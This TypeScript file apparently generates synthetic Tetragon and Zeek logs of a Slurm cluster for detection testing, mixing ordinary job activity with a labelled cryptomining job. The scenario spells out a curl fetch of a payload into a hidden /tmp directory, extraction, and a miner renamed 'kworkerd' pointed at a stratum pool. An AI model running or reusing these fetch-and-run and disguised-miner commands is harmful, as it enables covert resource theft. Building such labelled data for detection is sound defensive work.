/** A Slurm cluster as Tetragon and Zeek see it: jobs that compute, and one that mines. */
import type { Micros } from "@vedette/model";
import { isoStamp, type Scene, type Write } from "./scene.ts";

const tetragon = "demo/cluster/tetragon.ndjson";
const zeek = "demo/cluster/zeek.ndjson";
const label = "mining_job";
/** A defunct pool's name, which lists of pools still carry; its address is of the documentation range. */
const pool = { name: "pool.minexmr.com", ip: "198.51.100.77", port: 3333 };
const resolver = "10.20.0.53";

interface Node {
  readonly name: string;
  readonly ip: string;
}
const nodes: readonly Node[] = [1, 2, 3, 4, 5, 6].map((n) => ({ name: `node0${n}`, ip: `10.20.9.${n}` }));

interface Process {
  readonly node: Node;
  readonly binary: string;
  readonly args?: string;
  readonly pid: number;
  readonly uid: number;
  readonly cwd: string;
  readonly job: number;
  readonly parent: string;
}

const execId = (node: Node, pid: number) => Buffer.from(`${node.name}:${pid * 1_000_003}:${pid}`).toString("base64");

function processOf(p: Process, time: Micros) {
  return {
    exec_id: execId(p.node, p.pid),
    pid: p.pid,
    uid: p.uid,
    cwd: p.cwd,
    binary: p.binary,
    ...(p.args === undefined ? {} : { arguments: p.args }),
    flags: "execve clone",
    start_time: isoStamp(time),
    auid: p.uid,
    parent_exec_id: execId(p.node, p.pid - 1),
    environment_variables: [
      { key: "SLURM_JOB_ID", value: String(p.job) },
      { key: "SLURM_STEP_ID", value: "0" },
    ],
  };
}
const parentOf = (p: Process, time: Micros) => ({
  exec_id: execId(p.node, p.pid - 1),
  pid: p.pid - 1,
  uid: p.uid,
  cwd: p.cwd,
  binary: p.parent,
  start_time: isoStamp(time),
});

const exec = (p: Process) => (time: Micros) =>
  JSON.stringify({
    process_exec: { process: processOf(p, time), parent: parentOf(p, time) },
    node_name: p.node.name,
    time: isoStamp(time),
  });
const exit = (p: Process) => (time: Micros) =>
  JSON.stringify({
    process_exit: { process: processOf(p, time), parent: parentOf(p, time), time: isoStamp(time) },
    node_name: p.node.name,
    time: isoStamp(time),
  });
const connect = (p: Process, ip: string, port: number, from: number) => (time: Micros) =>
  JSON.stringify({
    process_kprobe: {
      process: processOf(p, time),
      parent: parentOf(p, time),
      function_name: "tcp_connect",
      args: [
        {
          sock_arg: {
            family: "AF_INET",
            type: "SOCK_STREAM",
            protocol: "IPPROTO_TCP",
            saddr: p.node.ip,
            daddr: ip,
            sport: from,
            dport: port,
          },
        },
      ],
      action: "KPROBE_ACTION_POST",
      policy_name: "outbound-connections",
    },
    node_name: p.node.name,
    time: isoStamp(time),
  });

interface Flow {
  readonly from: string;
  readonly fromPort: number;
  readonly to: string;
  readonly port: number;
}
const uid = (scene: Scene) => `C${scene.chance.text(17, "ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz23456789")}`;
const head = (path: string, time: Micros, id: string, f: Flow) => ({
  _path: path,
  ts: time / 1_000_000,
  uid: id,
  "id.orig_h": f.from,
  "id.orig_p": f.fromPort,
  "id.resp_h": f.to,
  "id.resp_p": f.port,
});

function dns(scene: Scene, node: Node, query: string, answer: string) {
  const flow = { from: node.ip, fromPort: scene.chance.whole(32_768, 60_999), to: resolver, port: 53 };
  const id = uid(scene);
  return (time: Micros) =>
    JSON.stringify({
      ...head("dns", time, id, flow),
      proto: "udp",
      query,
      qtype: 1,
      qtype_name: "A",
      rcode: 0,
      rcode_name: "NOERROR",
      AA: false,
      RD: true,
      RA: true,
      Z: 0,
      answers: [answer],
      TTLs: [60],
      rejected: false,
    });
}

function conn(scene: Scene, flow: Flow, service: string | undefined, seconds: number, sent: number, received: number) {
  const id = uid(scene);
  return (time: Micros) =>
    JSON.stringify({
      ...head("conn", time, id, flow),
      proto: "tcp",
      ...(service === undefined ? {} : { service }),
      duration: seconds,
      orig_bytes: sent,
      resp_bytes: received,
      conn_state: "SF",
      local_orig: true,
      local_resp: false,
      missed_bytes: 0,
      history: "ShADadFf",
      orig_pkts: Math.ceil(sent / 900) + 3,
      resp_pkts: Math.ceil(received / 900) + 3,
    });
}

/** Where the miner is hidden, and what it was renamed to. */
const hidden = "/tmp/.cache-x11/";
/** Looks like a Monero address, and is none. */
const wallet = `4${"DemoWa11etDemoWa11et".repeat(5).slice(0, 94)}`;

/** The job runs from 55 % to 95 % of the story: fetched on one node, started on four, then in steady contact with its pool. */
export function addMiningJob(scene: Scene): void {
  const { chance } = scene;
  const job = 4711;
  const put = (stream: string, at: number, write: Write) => scene.add(stream, at, write, label);
  const process = (node: Node, pid: number, binary: string, args: string, parent: string): Process => ({
    node,
    pid,
    binary,
    args,
    parent,
    uid: 1042,
    cwd: "/tmp",
    job,
  });
  const first = nodes[0]!;
  put(tetragon, 0.55, exec(process(first, 8_100, "/usr/bin/bash", "/var/spool/slurmd/job04711/slurm_script", "/usr/sbin/slurmstepd")));
  put(tetragon, 0.552, exec(process(first, 8_102, "/usr/bin/mkdir", `-p ${hidden}`, "/usr/bin/bash")));
  put(zeek, 0.5545, dns(scene, first, "files.paste.example", "203.0.113.80"));
  put(
    tetragon,
    0.555,
    exec(process(first, 8_104, "/usr/bin/curl", `-fsSL http://203.0.113.80/x.tar.gz -o ${hidden}x.tar.gz`, "/usr/bin/bash")),
  );
  put(
    tetragon,
    0.5555,
    connect(
      process(first, 8_104, "/usr/bin/curl", `-fsSL http://203.0.113.80/x.tar.gz -o ${hidden}x.tar.gz`, "/usr/bin/bash"),
      "203.0.113.80",
      80,
      40_112,
    ),
  );
  put(tetragon, 0.558, exec(process(first, 8_106, "/usr/bin/tar", `-xzf ${hidden}x.tar.gz -C ${hidden}`, "/usr/bin/bash")));
  put(tetragon, 0.56, exec(process(first, 8_108, "/usr/bin/chmod", `+x ${hidden}kworkerd`, "/usr/bin/bash")));
  for (const [rank, node] of nodes.slice(0, 4).entries()) {
    const at = 0.58 + rank * 0.01;
    const args = `-o stratum+tcp://${pool.name}:${pool.port} -u ${wallet} -p ${node.name} --donate-level=1 --cpu-priority=5`;
    const miner = process(node, 8_200 + rank, `${hidden}kworkerd`, args, "/usr/sbin/slurmstepd");
    put(tetragon, at, exec(miner));
    for (let i = 0; i < 12; i++) {
      const later = at + 0.001 + (i / 12) * 0.33;
      const from = chance.whole(32_768, 60_999);
      if (i % 4 === 0) put(zeek, later - 0.0002, dns(scene, node, pool.name, pool.ip));
      put(tetragon, later, connect(miner, pool.ip, pool.port, from));
      const flow = { from: node.ip, fromPort: from, to: pool.ip, port: pool.port };
      put(
        zeek,
        later + 0.0005,
        conn(scene, flow, undefined, chance.whole(240, 330), chance.whole(9_000, 14_000), chance.whole(30_000, 42_000)),
      );
    }
  }
}

const programs = [
  "/usr/bin/python3",
  "/usr/bin/gcc",
  "/opt/gromacs/bin/gmx",
  "/usr/bin/make",
  "/opt/openmpi/bin/mpirun",
  "/usr/bin/rsync",
  "/usr/bin/tar",
  "/usr/bin/ls",
];
const args = [
  "train.py --epochs 20",
  "-O2 -c solver.c",
  "mdrun -s topol.tpr",
  "-j8",
  "-np 16 ./solver",
  "-a in/ out/",
  "-czf results.tar.gz out",
  "-l",
];
const names = ["mirror.example.org", "pypi.example.net", "storage.lab.example", "license.lab.example", "ntp.lab.example"];

/** About `count` events of jobs at work. */
export function addClusterNoise(scene: Scene, count: number): void {
  const { chance } = scene;
  for (let written = 0; written < count; written++) {
    const at = chance.next();
    const node = chance.pick(nodes);
    const kind = chance.next();
    const from = chance.whole(32_768, 60_999);
    if (kind < 0.25) {
      const which = chance.whole(0, programs.length - 1);
      const p: Process = {
        node,
        binary: programs[which]!,
        args: args[which]!,
        pid: chance.whole(10_000, 60_000),
        uid: chance.whole(1_001, 1_030),
        cwd: `/scratch/job${chance.whole(4_000, 4_600)}`,
        job: chance.whole(4_000, 4_600),
        parent: "/usr/sbin/slurmstepd",
      };
      scene.add(tetragon, at, exec(p));
      scene.add(tetragon, at + 0.004, exit(p));
      written++;
    } else if (kind < 0.5) scene.add(zeek, at, dns(scene, node, chance.pick(names), `192.0.2.${chance.whole(1, 254)}`));
    else {
      const web = chance.next() < 0.6;
      const flow = { from: node.ip, fromPort: from, to: web ? `192.0.2.${chance.whole(1, 254)}` : "10.20.0.20", port: web ? 443 : 2_049 };
      scene.add(
        zeek,
        at,
        conn(scene, flow, web ? "ssl" : undefined, chance.next() * 4, chance.whole(400, 9_000), chance.whole(1_000, 90_000)),
      );
    }
  }
}
